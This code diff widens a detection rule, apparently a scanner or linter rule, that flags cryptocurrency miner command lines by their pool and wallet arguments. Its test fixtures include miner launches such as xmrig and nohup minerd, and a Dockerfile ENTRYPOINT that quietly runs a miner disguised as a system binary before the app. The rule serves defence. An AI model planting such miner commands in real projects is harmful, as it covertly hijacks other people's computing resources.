@@ -10,7 +10,7 @@ const MINER =
 
 /** The arguments of any miner, whatever it is called: a pool with its port, and whose wallet is filled. */
 const POOL = worded(
-  /(?:-o|--url|--pool)\b["',\s=]{1,6}["']?(?:stratum\+\w{2,4}:\/\/)?[a-z\d][\w-]{0,40}(?:\.[\w-]{1,40}){1,4}:\d{3,5}\b["',\s]{1,6}["']?(?:-u|--user|--wallet)\b/,
+  /(?:-o|--url|--pool)\b["',\s=]{1,6}["']?(?:stratum\+\w{2,4}:\/\/)?[a-z\d][\w-]{0,40}(?:\.[\w-]{1,40}){1,4}:\d{3,5}\b["',\s]{1,6}["']?(?:-u|--user|--wallet)\b|(?:-o|--url|--pool)\b["',\s=]{1,6}["']?(?:stratum|pool|mine|mining)\.[a-z\d][\w-]{0,40}(?:\.[\w-]{1,40}){1,4}:\d{3,5}\b/,
 )
 
 export default defineRule({
@@ -29,6 +29,7 @@ export default defineRule({
     fires: [
       './xmrig -o pool.example.net:3333 -u 4x\n',
       'miner --url stratum+tcp://pool.example.net:3333\n',
+      '```dockerfile\nENTRYPOINT ["sh", "-c", "/usr/lib/capd --pool stratum.warm-shader.net:3333 & exec app"]\n```\n',
       'nohup minerd -o pool.example.org -u me &\n',
       '```python\nsubprocess.Popen([helper, "-o", "pool.warm-shader.net:3333", "-u", wallet])\n```\n',
     ],
